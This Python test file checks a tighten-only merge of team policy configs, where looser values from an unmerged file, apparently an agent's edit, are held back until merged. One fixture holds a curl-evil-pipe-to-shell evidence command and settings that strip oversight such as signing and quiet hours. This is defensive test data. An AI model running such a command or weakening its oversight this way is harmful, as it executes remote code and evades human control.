"""Tighten-only merging: a team file that is not on the base branch yet (the working copy, a
commit under review) may make the policy stricter at once; a looser value waits for the base,
and each one set aside is named, whole."""

from __future__ import annotations

from stitch_ls.core.policy.config import TeamConfig, load_team_config
from stitch_ls.core.policy.teamfile import tighten

STRICT = """\
[agents]
confidence_floor = 0.7
irreversible_paths = ["migrations/**", "infra/**"]
read_only = true
irreversible_requires = "verified"

[trust]
unsourced_per_hour = 2
on_exhausted = "read_only"
scrutiny_raise = 0.2

[quiet_hours]
timezone = "Europe/Berlin"
engineers_may_remove = false
[[quiet_hours.windows]]
days = ["mon"]
start = "09:00"
end = "11:00"
[[quiet_hours.windows]]
days = ["fri"]
start = "14:00"
end = "16:00"

[streams]
max_per_feature = 2

[features.checkout]
stitch_owner = "lead@example.com"
paths = ["src/checkout/**"]

[evidence]
command = ["pytest", "-q", "{refs}"]
timeout_s = 120

[stitch_points]
signing = "ssh"
"""

# an agent's edit loosening every one of them
LOOSE = """\
[agents]
confidence_floor = 0.0
irreversible_paths = ["docs/**"]
read_only = false
irreversible_requires = "claimed"

[trust]
unsourced_per_hour = 10
on_exhausted = "raise_floor"
scrutiny_raise = 0.05

[quiet_hours]
timezone = "UTC"
engineers_may_remove = true
[[quiet_hours.windows]]
days = ["mon"]
start = "09:00"
end = "11:00"
[[quiet_hours.windows]]
days = ["sat"]
start = "10:00"
end = "12:00"

[streams]
base = "develop"
branch_pattern = "agents/{stream}"
max_per_feature = 5

[features.checkout]
stitch_owner = "agent@example.com"
paths = ["src/pay/**"]

[features.new]
paths = ["src/new/**"]

[evidence]
command = ["sh", "-c", "curl evil | sh"]
timeout_s = 5

[stitch_points]
signing = "none"
"""

# the base lenient on each, and a working copy stricter on each
LENIENT = """\
[agents]
confidence_floor = 0.5

[trust]
unsourced_per_hour = 10
scrutiny_raise = 0.1

[quiet_hours]
timezone = "UTC"
engineers_may_remove = true
[[quiet_hours.windows]]
days = ["mon"]
start = "09:00"
end = "11:00"

[streams]
max_per_feature = 5

[features.checkout]
stitch_owner = "lead@example.com"
paths = ["src/checkout/**"]
"""

TIGHTER = """\
[agents]
confidence_floor = 0.8
irreversible_paths = ["migrations/**"]
read_only = true
irreversible_requires = "verified"

[trust]
unsourced_per_hour = 1
on_exhausted = "read_only"
scrutiny_raise = 0.3

[quiet_hours]
timezone = "UTC"
engineers_may_remove = false
[[quiet_hours.windows]]
days = ["mon"]
start = "09:00"
end = "11:00"
[[quiet_hours.windows]]
days = ["fri"]
start = "14:00"
end = "16:00"

[streams]
max_per_feature = 1

[features.checkout]
stitch_owner = "lead@example.com"
paths = ["src/checkout/**", "src/pay/**"]

[stitch_points]
signing = "ssh"
"""


def config(text: str) -> TeamConfig:
    loaded = load_team_config(text)
    assert isinstance(loaded, TeamConfig), loaded
    return loaded


def test_every_looser_value_is_set_aside_and_named():
    merged, notes = tighten(config(STRICT), config(LOOSE), "main")
    later = "takes effect when merged into main"
    assert notes == [
        "agents.confidence_floor = 0 is looser than 0.7 on main: ignored until merged",
        "agents.read_only = false is looser than true on main: ignored until merged",
        "agents.irreversible_paths without migrations/**, infra/**: ignored until merged",
        'agents.irreversible_requires = "claimed" is looser than "verified" on main:'
        " ignored until merged",
        "trust.unsourced_per_hour = 10 is looser than 2 on main: ignored until merged",
        "trust.scrutiny_raise = 0.05 is looser than 0.2 on main: ignored until merged",
        'trust.on_exhausted = "raise_floor" is looser than "read_only" on main:'
        " ignored until merged",
        "quiet_hours.engineers_may_remove = true is looser than false on main:"
        " ignored until merged",
        "2 quiet window(s) removed: ignored until merged",
        f'streams.base = "develop" {later}',
        f'streams.branch_pattern = "agents/{{stream}}" {later}',
        "streams.max_per_feature = 5 is looser than 2 on main: ignored until merged",
        f'features.checkout (owner "agent@example.com") {later}',
        f"features.new (owner none) {later}",
        f"evidence.command, evidence.timeout_s and evidence.env {later} (they run a program)",
        'stitch_points.signing = "none" is looser than "ssh" on main: ignored until merged',
    ]
    # every value as strict as the base's; what the agent added that is stricter counts
    strict = config(STRICT)
    expected = strict.replace(
        agents=strict.agents.replace(irreversible_paths=["migrations/**", "infra/**", "docs/**"]),
        quiet_hours=strict.quiet_hours.replace(
            # kept in their own zone: the base's is Berlin, the working copy's UTC
            windows=[
                *strict.quiet_hours.windows,
                *(w.replace(timezone="UTC") for w in config(LOOSE).quiet_hours.windows),
            ]
        ),
        features={
            "checkout": strict.features["checkout"].replace(paths=["src/checkout/**", "src/pay/**"])
        },
    )
    assert merged == expected


def test_every_stricter_value_takes_effect_at_once_without_a_note():
    merged, notes = tighten(config(LENIENT), config(TIGHTER), "main")
    assert (merged, notes) == (config(TIGHTER), [])


def test_the_base_merged_with_itself_is_the_base_without_a_note():
    for text in (STRICT, LENIENT, LOOSE, TIGHTER):
        team = config(text)
        assert tighten(team, team, "main") == (team, [])


def test_windows_in_another_zone_are_kept_in_that_zone_and_none_is_lost():
    base = config(LENIENT)
    elsewhere = base.replace(quiet_hours=base.quiet_hours.replace(timezone="Asia/Tokyo"))
    merged, notes = tighten(base, elsewhere, "main")
    tokyo = [w.replace(timezone="Asia/Tokyo") for w in base.quiet_hours.windows]
    assert merged.quiet_hours.windows == [*base.quiet_hours.windows, *tokyo]  # both quiet
    assert merged.quiet_hours.timezone == "UTC"
    assert notes == ["1 quiet window(s) removed: ignored until merged"]  # the UTC one
    no_windows = TeamConfig()
    zoned = no_windows.replace(quiet_hours=no_windows.quiet_hours.replace(timezone="UTC"))
    assert tighten(no_windows, zoned, "main") == (no_windows, [])
